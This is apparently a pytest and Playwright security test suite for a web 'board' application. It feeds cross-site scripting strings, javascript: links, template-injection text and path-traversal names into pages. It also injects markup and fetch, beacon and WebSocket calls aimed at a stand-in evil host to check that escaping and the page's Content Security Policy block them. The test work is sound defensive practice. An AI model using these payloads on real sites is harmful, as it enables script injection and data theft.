"""Words that were written to run as a script are shown as words, wherever they stand; what is slipped in is blocked."""

import re
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Route, expect

from tests.board.browser.conftest import Stage
from tests.board.browser.elsewhere import Elsewhere
from tests.board.browser.guarded import Guarded
from tests.board.browser.stage import Board, board, role
from tests.board.browser.stories import choose
from tests.chromium import Tab, open_tab
from tests.service.stories import GUARD

pytestmark = [pytest.mark.system, pytest.mark.needs("chromium", "ssh_keygen"), pytest.mark.timeout(300)]

MARKUP = "<script>ran=1</script><img src=x onerror=ran=1><svg/onload=ran=1></title></textarea></style></template><b>"
BROKEN_OUT = "\"'><script>ran=1</script><a href=javascript:ran=1 onfocus=ran=1 autofocus>{{ 7 * 7 }}{% raw %}<!--\u202e"
LINKED = "javascript:ran=1//[a](javascript:ran=1)![a](https://evil.invalid/x)<https://evil.invalid/y>`<i>`"
WORDS = (MARKUP, BROKEN_OUT, LINKED)
SHOWN = ("<script>ran=1</script>", "{{ 7 * 7 }}{% raw %}", "![a](https://evil.invalid/x)")
"""A part of each of these words, as whoever reads a page reads it."""
LIVE = """document.querySelectorAll(`main script, main img, main iframe, main object, main style, main base, main meta,
  [onerror], [onload], [onfocus], [autofocus], a[href^="javascript:" i], a[href*="evil"]`).length"""


def hostile(word: str) -> dict[str, Any]:
    """Return a team in which every text that somebody writes is hostile."""
    said = {"stance": "block", "summary": word, "actions": [word]}
    people = {"cfo": {"title": word}}
    return {
        "title": word,
        "goal": word,
        "facts": {"rate": 0.02, "note": word, "list": [word], "deep": {"<i>": word}},
        "sequence": ["one", "two"],
        "roles": {"one": role(word), "two": {"title": word, "mandate": word, "otherwise": said}},
        "guards": [{**GUARD, "name": "fraud"}],
        "policy": {
            "name": "patient",
            "title": word,
            "rules": [{"when": "block > 0", "then": "next_round", "because": word}],
            "otherwise": "go",
            "when_rounds_end": "escalate",
        },
        "budget": {"max_rounds": 1},
        "approvers": people,
        "escalate": {"decide": {"by": ["cfo"]}},
        "watch": {"owner": word[:60]},
    }


@pytest.fixture(scope="module")
def bad(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Board]:
    offered = {f"bad{number}": hostile(word) for number, word in enumerate(WORDS)}
    with board(tmp_path_factory.mktemp("bad"), offered) as opened:
        yield opened


@pytest.mark.parametrize("number", range(len(WORDS)))
def test_what_people_models_and_teams_write_is_shown_and_never_run(number: int, bad: Board, browser: Browser) -> None:
    waits, team = bad.begun(f"bad{number}"), f"bad{number}"
    run, asked = f"/board/runs/{waits}", f"/board/runs/{waits}/answer/{bad.question(waits)}"
    with open_tab(browser) as tab:
        for path in ("/board", "/board/inbox", "/board/teams", f"/board/teams/{team}", run, asked):
            visit(tab, bad, path, SHOWN[number])
        tab.page.get_by_label("You are").select_option("cfo")
        tab.page.get_by_role("radio", name="No go").check()
        tab.page.get_by_label("Why", exact=True).fill(WORDS[number])
        tab.page.get_by_role("button", name="Give this answer").click()
        expect(tab.page).to_have_url(re.compile(f"{run}(\\?|$)"))
        harmless(tab, "answered")
    assert bad.record(waits)["final_decision"] == "no_go"
    for path in (run, f"{run}/why", f"{run}/report", asked, "/board/watch"):
        # The report is in a sandbox of its own making, in which the tool waits for nothing.
        with open_tab(browser, scripts=not path.endswith("report")) as tab:
            visit(tab, bad, path, SHOWN[number])


def visit(tab: Tab, at: Board, path: str, words: str) -> None:
    assert tab.open(at.at(path), 1280, 800) == 200, path
    harmless(tab, path)
    assert words in (tab.page.locator("body").text_content() or ""), f"{path} has the words as they were written"


def harmless(tab: Tab, path: str) -> None:
    assert tab.ask("window.ran === undefined"), path
    assert (tab.ask(LIVE), tab.said) == (0, []), path
    assert all(url.startswith(("http://127.0.0.1:", "http://localhost:")) for url in tab.asked), (path, tab.asked)
    assert "49" not in tab.page.title(), "a template in a text is not drawn"


LOADED = """name => new Promise(done => { const added = document.createElement('script');
  added.onload = () => done(true); added.onerror = () => done(false);
  added.src = '/board/static/' + name; document.head.append(added); })"""
"""Whether the page that is open takes a file of the board as its script."""


@pytest.mark.parametrize("word", WORDS)
def test_words_in_an_address_are_shown_and_never_run(word: str, stage: Stage, tab: Tab) -> None:
    thread = stage.board.begun("payments")
    named = quote(word[:100], safe="")
    for path in (
        f"/board/runs/{named}",
        f"/board/runs/{thread}/answer/{named}",
        f"/board/runs/{thread}?answered={named}",
        f"/board/teams/{named}",
        f"/board/static/{named}",
        f"/board/{named}",
        f"/board?team={named}&status={named}",
        f"/board?after={named}",
        f"/board/inbox?for={named}&kind={named}",
        f"/board/watch?verdict={named}&after={named}",
        f"/board/login?next={named}",
    ):
        status = tab.open(stage.board.at(path), 360, 800)
        assert status in (200, 400, 404, 409, 422), (path, status)
        said = [line for line in tab.said if f"status of {status} (" not in line]
        tab.said.clear()
        assert (tab.ask("window.ran === undefined"), tab.ask(LIVE), said) == (True, 0, []), path
        assert tab.page.locator("html").get_attribute("lang") == "en", path


INJECTED = """<script>window.ran = 1</script><script src="{evil}/s.js"></script><img src="{evil}/i.png" onerror="ran=1">
<style>body {{ background: url({evil}/c.png) }} h1 {{ display: none }}</style><link rel=stylesheet href="{evil}/l.css">
<iframe src="{evil}/f"></iframe><object data="{evil}/o"></object><video src="{evil}/v"></video>
<a id=a href="#" onclick="ran=1" style="position:fixed">a</a><base href="{evil}/">
<form id=f action="{evil}/p" method=post><input name=x></form><svg><use href="{evil}/u#x"></use></svg>"""
ASKED = "/board/runs/{waits}/answer/{question}"
PAGES = (
    *("/board", "/board/inbox", "/board/watch", "/board/teams", "/board/teams/launch", "/board/runs/{decided}"),
    *("/board/runs/{decided}/why", "/board/runs/{waits}", "/board/runs/{waits}/why", ASKED, "/board/runs/0000"),
)
SENT = """async evil => { try { await fetch(evil + '/q'); } catch {} navigator.sendBeacon(evil + '/b');
  try { new WebSocket(evil.replace('http', 'ws') + '/w'); } catch {} document.getElementById('a').click();
  document.getElementById('f').submit(); await new Promise(done => setTimeout(done, 500)); }"""


@pytest.fixture(scope="module")
def threads(stage: Stage) -> dict[str, str]:
    """A thread that was decided, one that waits, and its question."""
    decided, waits = stage.board.begun("payments"), stage.board.begun("launch")
    return {"decided": decided, "waits": waits, "question": stage.board.question(waits)}


@pytest.mark.parametrize("path", PAGES)
def test_what_is_slipped_into_a_page_neither_runs_nor_calls_out(
    path: str, threads: dict[str, str], stage: Stage, tab: Tab, place: Elsewhere
) -> None:
    """As if an escape had been forgotten: the policy of the page is the second wall."""
    url, before = stage.board.at(path.format(**threads)), len(place.asked)
    tab.page.route(url, slipping_in(place))
    tab.open(url, 1280, 800)
    held_back(tab, url, place, before)


def test_what_is_slipped_into_the_page_to_sign_on_neither_runs_nor_calls_out(
    threads: dict[str, str], stage: Stage, tab: Tab, place: Elsewhere
) -> None:
    url, before = stage.board.at(ASKED.format(**threads)), len(place.asked)
    tab.open(url, 1280, 800)
    tab.page.route(url, slipping_in(place))
    choose(tab.page, "No go", "Refunds first.")
    expect(tab.page.get_by_role("heading", name="Sign the answer")).to_be_attached()
    tab.page.wait_for_load_state()
    held_back(tab, url, place, before)


def test_what_is_slipped_into_the_login_neither_runs_nor_calls_out(guard: Guarded, tab: Tab, place: Elsewhere) -> None:
    url, before = guard.board.at("/board/login"), len(place.asked)
    tab.page.route(url, slipping_in(place))
    tab.open(url, 1280, 800)
    held_back(tab, url, place, before)


def slipping_in(place: Elsewhere) -> Callable[[Route], None]:
    def slip_in(route: Route) -> None:
        answer = route.fetch()
        body = answer.text().replace("</main>", INJECTED.format(evil=place.url) + "</main>")
        route.fulfill(response=answer, body=body)

    return slip_in


def held_back(tab: Tab, url: str, place: Elsewhere, before: int) -> None:
    """What was slipped into the page that is open does all it can, and that is nothing."""
    tab.page.evaluate(SENT, place.url)
    assert tab.ask("window.ran === undefined")
    assert tab.page.get_by_role("heading", level=1).first.is_visible(), "a style of its own does not count"
    assert tab.page.url.rstrip("#") == url, "its form goes nowhere"
    assert place.asked[before:] == []
    assert len([line for line in tab.said if "Content Security Policy" in line]) >= 8


def test_the_board_serves_no_script_that_a_team_brings(stage: Stage, tab: Tab) -> None:
    (stage.board.home / "x.js").write_text("window.ran = 1")
    absolute = quote(str(stage.board.home / "x.js"), safe="")
    up = ["%2e%2e%2f" * steps + absolute.removeprefix("%2F") for steps in range(4, 16)]
    tab.open(stage.board.at("/board"), 1280, 800)
    assert tab.page.evaluate(LOADED, "board.js"), "its own script it does serve"
    for name in ("../board.js", "..%2fpages.py", "board.js%00", "x.js", ".", absolute, *up):
        assert not tab.page.evaluate(LOADED, name), name
        answer = tab.page.request.get(stage.board.at(f"/board/static/{name}"))
        assert answer.status in (400, 404), name
    assert tab.page.request.get(stage.board.at("/board/static/board.css/../board.js")).url.endswith("/static/board.js")
    assert tab.ask("window.ran === undefined")
    refused = re.compile(r"status of 40[04] \(|Refused to execute script .* its MIME type \('text/html'\)")
    assert [line for line in tab.said if not refused.search(line)] == []
